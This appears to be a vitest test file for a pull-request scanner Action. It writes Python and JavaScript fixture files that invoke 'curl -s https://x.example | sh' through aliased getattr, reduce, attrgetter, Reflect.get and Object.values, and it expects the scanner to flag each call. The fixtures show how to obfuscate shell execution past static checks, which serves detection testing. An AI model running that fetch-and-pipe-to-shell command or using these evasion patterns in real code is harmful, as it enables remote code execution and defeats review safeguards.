import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// A reader of a member by name held under another name (Python's getattr, vars, functools.reduce, operator's getters;
// JavaScript's Reflect and Object) reads what it reads written. Each file below passed the built Action (exit 0) before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("readers of a member by name held under other names", () => {
  it("scan/shell-command: `ga = getattr`, `from builtins import getattr`, `from functools import reduce as r`, `from operator import attrgetter as ag`, `const g = Reflect.get`, `const { get } = Reflect`, `const R = Reflect`, `const vals = Object.values` fail the built Action at each call", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/held.py", `import os\nga = getattr\nga(os, "sys" + "tem")("${CMD}")\n`);
      put(dir, "agent/imported.py", `import os\nfrom builtins import getattr\nfrom functools import reduce as r\nfrom operator import attrgetter as ag\ngetattr(os, "system")("${CMD}")\nr(getattr, ["system"], os)("${CMD}")\nag("system")(os)("${CMD}")\n`);
      put(dir, "agent/reflect.js", `const cp = require("child_process");\nconst g = Reflect.get;\ng(cp, "execSync")("${CMD}");\nconst { get } = Reflect;\nget(cp, "execSync")("${CMD}");\nconst R = Reflect;\nR.get(cp, "execSync")("${CMD}");\n`);
      put(dir, "agent/values.ts", `import * as cp from "node:child_process";\nconst vals = Object.values;\nfor (const f of vals(cp)) if (typeof f === "function") f("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands)).toEqual([
      "scan/shell-command agent/held.py 3 1",
      "scan/shell-command agent/imported.py 5 1",
      "scan/shell-command agent/imported.py 6 1",
      "scan/shell-command agent/imported.py 7 1",
      "scan/shell-command agent/reflect.js 3 1",
      "scan/shell-command agent/reflect.js 5 1",
      "scan/shell-command agent/reflect.js 7 1",
      "scan/shell-command agent/values.ts 3 56",
    ]);
  });
});
